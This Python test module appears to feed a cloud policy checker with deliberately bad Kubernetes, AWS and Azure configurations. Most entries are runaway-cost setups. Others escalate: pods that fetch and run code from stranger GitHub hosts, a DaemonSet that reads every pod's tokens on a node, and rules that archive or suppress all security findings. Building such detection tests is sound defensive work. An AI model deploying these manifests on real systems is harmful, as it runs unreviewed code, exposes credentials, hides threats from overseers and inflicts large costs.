"""Attacks on the bill by ways of counting, and programs that nobody reviewed by listed hosts (2026-11-28)."""

import json

from ..blind import GROUP, IMAGE, KEY, ME, TAGS, aws, az, crd, k8s, meta, pod, workload
from ..harness import Given
from ..idioms.azure_platform import AKS
from ..idioms.fourth_kubernetes import AZURE_BUDGET, BUDGET
from . import Attack

MONEY = ("FJ-COST-", "FJ-ESC-")
ESC = ("FJ-ESC-", "FJ-EXP-", "FJ-IDN-")
R = "me-central-1"
RG = {"resourceGroupName": "rg-platform"}
HERE = {**RG, "location": "uaenorth", "tags": TAGS}
OURS = f"{GROUP}/providers/Microsoft"
STACK = Given("pulumi:pulumi:Stack", {}, "falaj-prod-uae")
BIG = {"cpu": "16", "memory": "64Gi"}
BUYS = "an autoscaler of another stack buys the machines"
TRAIN = "registry.example.ae/train@sha256:" + "a" * 64
MIG = "nvidia.com/mig-7g.80gb"


def _gpus(name: str, key: str = "nvidia.com/gpu") -> dict[str, object]:
    return {"name": name, "resources": {"requests": {**BIG, key: "1"}, "limits": {**BIG, key: "1"}}}


def _services(count: int, replicas: int) -> tuple[Given, ...]:
    """Returns inference services of one GPU a replica."""
    return tuple(
        k8s("serving.kserve.io/v1beta1:InferenceService", {"metadata": meta(f"m{number}"), "spec": {"predictor": {
            "minReplicas": replicas, "maxReplicas": replicas, "labels": TAGS,
            **pod(_gpus("kserve-container"))}}}, f"m{number}")
        for number in range(count)
    )  # fmt: skip


def _claimed_by_class(replicas: int) -> tuple[Given, ...]:
    """Returns a deployment that asks for eight GPUs a pod by a template of claims, and the template."""
    return (
        k8s("resource.k8s.io/v1:ResourceClaimTemplate", {"metadata": meta("eight"), "spec": {
            "metadata": {"labels": TAGS}, "spec": {"devices": {"requests": [{"name": "gpus", "exactly": {
                "deviceClassName": "gpu.nvidia.com", "allocationMode": "ExactCount", "count": 8}}]}}}}, "claim"),
        workload("apps/v1:Deployment", {"resources": {"requests": BIG, "limits": BIG, "claims": [{"name": "gpus"}]}},
                 replicas=replicas, resourceClaims=[{"name": "gpus", "resourceClaimTemplateName": "eight"}]),
    )  # fmt: skip


ATTACKS = (
    Attack("a deployment has a thousand pods of sixteen processors", MONEY, (STACK, workload(
        "apps/v1:Deployment", {"resources": {"requests": BIG, "limits": BIG}}, replicas=1000)),
        "critical", f"16,000 processors run day and night: {BUYS}"),
    Attack("GPUs are asked for by claims of devices", MONEY, (STACK, *_claimed_by_class(500)),
        "critical", f"4,000 GPUs that no resource of a container names: {BUYS} (Kubernetes, 'Dynamic Resource "
        "Allocation')"),
    Attack("GPUs are asked for by the name of their largest part", MONEY, (STACK, workload(
        "apps/v1:Deployment", _gpus("app", MIG), replicas=500)),
        "critical", f"a part of seven sevenths is the whole GPU: {BUYS} (NVIDIA, 'MIG User Guide', H100 profiles)"),
    Attack("ten services have sixty GPUs each", MONEY, (STACK, *_services(10, 60)),
        "critical", f"each is below the bound of a workload, and together they are 600 GPUs: {BUYS}"),
    Attack("each container asks for sixty-four processors by default", MONEY, (STACK, k8s("core/v1:LimitRange", {
        "metadata": meta(), "spec": {"limits": [{
            "type": "Container", "default": {"cpu": "64", "memory": "512Gi"},
            "defaultRequest": {"cpu": "64", "memory": "512Gi"}}]}})),
        "major", f"a pod that states nothing takes a whole machine: {BUYS}"),
    Attack("a queue gives a million processors", MONEY, (STACK, k8s("kueue.x-k8s.io/v1beta1:ClusterQueue", {
        "metadata": {"name": "team-a", "labels": TAGS}, "spec": {"namespaceSelector": {}, "resourceGroups": [{
            "coveredResources": ["cpu", "memory"], "flavors": [{"name": "spot", "resources": [
                {"name": "cpu", "nominalQuota": "1000000"}, {"name": "memory", "nominalQuota": "8000Ti"}]}]}]}})),
        "major", f"the only brake of a tenant's jobs is wider than every account: {BUYS}"),
    Attack("a workflow starts five thousand steps with a GPU", MONEY, (STACK, crd("argoproj.io/v1alpha1:Workflow", {
        "entrypoint": "all", "serviceAccountName": "app", "podMetadata": {"labels": TAGS}, "templates": [
            {"name": "all", "steps": [[{"name": "one", "template": "gpu", "withSequence": {"count": "5000"}}]]},
            {"name": "gpu", "container": {"image": IMAGE, **_gpus("main")}}]})),
        "critical", f"all steps of a group run at once: {BUYS} (Argo Workflows, 'Loops')"),
    Attack("a cluster of Ray stays after its job", MONEY, (STACK, crd("ray.io/v1:RayJob", {
        "entrypoint": "python train.py", "shutdownAfterJobFinishes": False, "rayClusterSpec": {
            "headGroupSpec": {"rayStartParams": {"num-cpus": "0"}, "template": {
                "metadata": {"labels": TAGS}, "spec": pod({})}}, "workerGroupSpecs": [{
                    "groupName": "gpu", "replicas": 60, "minReplicas": 60, "maxReplicas": 60, "rayStartParams": {},
                    "template": {"metadata": {"labels": TAGS}, "spec": pod(_gpus("worker"))}}]}})),
        "critical", "sixty GPUs wait for nothing until somebody deletes them (KubeRay, RayJob, "
        "shutdownAfterJobFinishes)"),
    Attack("builds of images start a machine with eight GPUs and leave it", MONEY, (STACK, BUDGET,
        aws("imagebuilder/InfrastructureConfiguration", {
            "name": "gpu", "instanceProfileName": "builder", "instanceTypes": ["p5en.48xlarge"], "tags": TAGS,
            "resourceTags": TAGS, "terminateInstanceOnFailure": False, "subnetId": "subnet-1",
            "securityGroupIds": ["sg-1"], "instanceMetadataOptions": {
                "httpTokens": "required", "httpPutResponseHopLimit": 1}})),
        "critical", "a build that fails leaves 64 dollars an hour running (EC2 Image Builder, "
        "terminateInstanceOnFailure)"),
    Attack("a hundred machines wait for builds", MONEY, (STACK, BUDGET, aws("codebuild/Fleet", {
        "name": "builds", "baseCapacity": 100, "computeType": "BUILD_GENERAL1_2XLARGE", "environmentType":
            "LINUX_CONTAINER", "fleetServiceRole": f"arn:aws:iam::{ME}:role/fleet", "tags": TAGS})),
        "critical", "machines of 72 processors are charged by the minute, used or not (AWS CodeBuild, 'Reserved "
        "capacity fleets')"),
    Attack("an event starts ten thousand jobs", MONEY, (STACK, aws("cloudwatch/EventTarget", {
        "rule": "uploads", "arn": f"arn:aws:batch:{R}:{ME}:job-queue/spot", "roleArn": f"arn:aws:iam::{ME}:role/events",
        "batchTarget": {"jobDefinition": f"arn:aws:batch:{R}:{ME}:job-definition/train:3", "jobName": "train",
                        "arraySize": 10000, "jobAttempts": 10}})),
        "critical", "each upload of a file is an array of 10,000 jobs, each tried ten times (AWS Batch, 'Array jobs')"),
    Attack("queries reserve a thousand units", MONEY, (STACK, BUDGET, aws("athena/CapacityReservation", {
        "name": "reports", "targetDpus": 1000, "tags": TAGS})),
        "critical", "about AED 800,000 a month whether anybody asks or not (Amazon Athena pricing, provisioned "
        "capacity)"),
    Attack("a group of features provisions forty thousand units", MONEY, (STACK, BUDGET, aws("sagemaker/FeatureGroup", {
        "featureGroupName": "orders", "recordIdentifierFeatureName": "id", "eventTimeFeatureName": "at", "tags": TAGS,
        "roleArn": f"arn:aws:iam::{ME}:role/features", "featureDefinitions": [
            {"featureName": "id", "featureType": "String"}, {"featureName": "at", "featureType": "String"}],
        "onlineStoreConfig": {"enableOnlineStore": True, "securityConfig": {"kmsKeyId": KEY}},
        "throughputConfig": {"throughputMode": "Provisioned", "provisionedReadCapacityUnits": 40000,
                             "provisionedWriteCapacityUnits": 40000}})),
        "critical", "provisioned units are charged by the hour (Amazon SageMaker, 'Feature Store throughput modes')"),
    Attack("the brake of a budget waits for a million percent", MONEY, (aws("budgets/BudgetAction", {
        "budgetName": "platform", "actionType": "APPLY_IAM_POLICY", "approvalModel": "MANUAL",
        "notificationType": "ACTUAL", "executionRoleArn": f"arn:aws:iam::{ME}:role/brake", "tags": TAGS,
        "actionThreshold": {"actionThresholdType": "PERCENTAGE", "actionThresholdValue": 1000000},
        "definition": {"iamActionDefinition": {"policyArn": f"arn:aws:iam::{ME}:policy/no-new-machines",
                                               "roles": ["team-a"]}},
        "subscribers": [{"address": "finops@example.ae", "subscriptionType": "EMAIL"}]}),),
        "major", "the brake is there, and no bill ever pulls it (AWS Budgets, 'Budget actions')"),
    Attack("a cluster grows and never shrinks", MONEY, (AZURE_BUDGET, Given(
        AKS.type, {**AKS.props, "autoScalerProfile": {
            "scaleDownUnneededTime": "600000m", "scaleDownUtilizationThreshold": "0", "scanInterval": "10s"}}, "aks")),
        "major", "machines of one busy hour are paid for a year (AKS, 'Cluster autoscaler profile settings')"),
    Attack("each minute a hundred copies of a job start with a GPU", MONEY, (STACK, AZURE_BUDGET, az("app:Job", {
        **HERE, "jobName": "train", "environmentId": f"{OURS}.App/managedEnvironments/env",
        "workloadProfileName": "gpu",
        "identity": {"type": "SystemAssigned"}, "configuration": {
            "triggerType": "Schedule", "replicaTimeout": 86400, "replicaRetryLimit": 5,
            "scheduleTriggerConfig": {
                "cronExpression": "* * * * *", "parallelism": 100, "replicaCompletionCount": 100}},
        "template": {"containers": [{"name": "train", "image": TRAIN,
                                     "resources": {"cpu": 24, "memory": "220Gi"}}]}})),
        "critical", "runs of a day pile up: 144,000 copies (Azure Container Apps, 'Jobs')"),
    Attack("a workload clones the program of a stranger from a listed host", ESC, (workload("apps/v1:Deployment", {
        "volumeMounts": [{"name": "code", "mountPath": "/code"}], "command": ["python", "/code/current/run.py"]},
        initContainers=[pod({
            "name": "sync", "image": "registry.k8s.io/git-sync/git-sync:v4.4.2", "args": [
                "--repo=https://github.com/someone/jobs", "--root=/code", "--link=current", "--one-time"],
            "volumeMounts": [{"name": "code", "mountPath": "/code"}]})["containers"][0]],  # type: ignore[index]
        volumes=[{"name": "code", "emptyDir": {}}]),),
        "critical", "the stranger's next commit runs with the workload's rights (git-sync, README)"),
    Attack("a package comes from a stranger's repository at a fixed commit", ESC, (workload("apps/v1:Deployment", {
        "command": ["/bin/sh", "-c"], "args": [
            "pip install --no-deps git+https://github.com/someone/tools@0a1b2c3d4e5f60718293a4b5c6d7e8f901234567 && "
            "exec python -m orders"]}, replicas=1),),
        "critical", "nobody reviewed it: a fixed version says what runs, and not whose (pip, 'VCS Support')"),
    Attack("a job of Ray fetches its program from a stranger's archive", (*ESC, "FJ-RES-"), (crd("ray.io/v1:RayJob", {
        "entrypoint": "python main.py", "shutdownAfterJobFinishes": True,
        "runtimeEnvYAML": "working_dir: https://github.com/someone/jobs/archive/refs/heads/main.zip\n",
        "rayClusterSpec": {"headGroupSpec": {"rayStartParams": {}, "template": {
            "metadata": {"labels": TAGS}, "spec": pod({})}}}}),),
        "critical", "the archive runs with the job's rights (Ray, 'Environment Dependencies', remote URIs)"),
    Attack("a build takes its source from an organisation with the bank's first letters", ESC, (
        aws("codebuild/Project", {
            "name": "app", "serviceRole": f"arn:aws:iam::{ME}:role/build", "encryptionKey": KEY, "tags": TAGS,
            "artifacts": {"type": "NO_ARTIFACTS"}, "environment": {
                "computeType": "BUILD_GENERAL1_SMALL", "type": "LINUX_CONTAINER",
                "image": "aws/codebuild/amazonlinux-x86_64-standard:5.0"},
            "vpcConfig": {"vpcId": "vpc-1", "subnets": ["s"], "securityGroupIds": ["g"]},
            "source": {"type": "GITHUB", "location": "https://github.com/bank-someone/app.git", "buildspec":
                       json.dumps({
                "version": "0.2", "phases": {"build": {"commands": ["make"]}}})}}),),
        "critical", "the listed organisation is github.com/bank; anybody may have bank-someone"),
    Attack("a tenant's service changes every pod of the cluster", (*ESC, "FJ-RES-"), (
        k8s("admissionregistration.k8s.io/v1:MutatingWebhookConfiguration", {
            "metadata": {"name": "team-a", "labels": TAGS}, "webhooks": [{
                "name": "pods.team-a.example.ae", "sideEffects": "None", "admissionReviewVersions": ["v1"],
                "failurePolicy": "Ignore", "clientConfig": {"service": {
                    "name": "hook", "namespace": "team-a", "path": "/mutate", "port": 443}, "caBundle": "Q0E="},
                "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "resources": ["pods"],
                           "operations": ["CREATE", "UPDATE"], "scope": "*"}]}]}),),
        "critical", "images and mounts of kube-system are what the tenant says (Kubernetes, 'Admission webhook good "
        "practices')"),
    Attack("the admission of policies fails open", ESC, (
        k8s("admissionregistration.k8s.io/v1:ValidatingWebhookConfigurationPatch", {
            "metadata": {"name": "policies"}, "webhooks": [{
                "name": "policies.platform.svc", "failurePolicy": "Ignore", "timeoutSeconds": 1}]}),),
        "critical", "whatever takes a second longer is admitted unseen (Kubernetes, 'Failure policy')"),
    Attack("a filter archives every finding", ESC, (aws("guardduty/Filter", {
        "detectorId": "12abc34d567e8fa901bc2d34e56789f0", "name": "noise", "action": "ARCHIVE", "rank": 1, "tags": TAGS,
        "findingCriteria": {"criterions": [{"field": "severity", "greaterThanOrEqual": "1"}]}}),),
        "major", "the detector is on, and nobody hears of it (Amazon GuardDuty, 'Suppression rules')"),
    Attack("a rule of automation settles every finding", ESC, (aws("securityhub/AutomationRule", {
        "ruleName": "noise", "description": "Noise", "ruleOrder": 1, "isTerminal": True, "ruleStatus": "ENABLED",
        "tags": TAGS, "criteria": {"recordStates": [{"comparison": "EQUALS", "value": "ACTIVE"}]}, "actions": [{
            "type": "FINDING_FIELDS_UPDATE", "findingFieldsUpdate": {
                "severity": {"label": "INFORMATIONAL"}, "workflow": {"status": "SUPPRESSED"}}}]}),),
        "major", "every finding of every service is suppressed as it comes (AWS Security Hub, 'Automation rules')"),
    Attack("a pod of a tenant goes into the namespace of drivers", ESC, (k8s("apps/v1:DaemonSet", {
        "metadata": meta("metrics", "gpu-operator"), "spec": {
            "selector": {"matchLabels": {"app": "m"}}, "template": {
                "metadata": {"labels": {**TAGS, "app": "m"}}, "spec": pod(
                    {"volumeMounts": [{"name": "pods", "mountPath": "/host", "readOnly": True}]}, hostNetwork=True,
                    hostPID=True, volumes=[{"name": "pods", "hostPath": {"path": "/var/lib/kubelet/pods"}}])}}}),),
        "critical", "there it reads the tokens and secrets of every pod of the node, and nobody refuses it"),
)  # fmt: skip
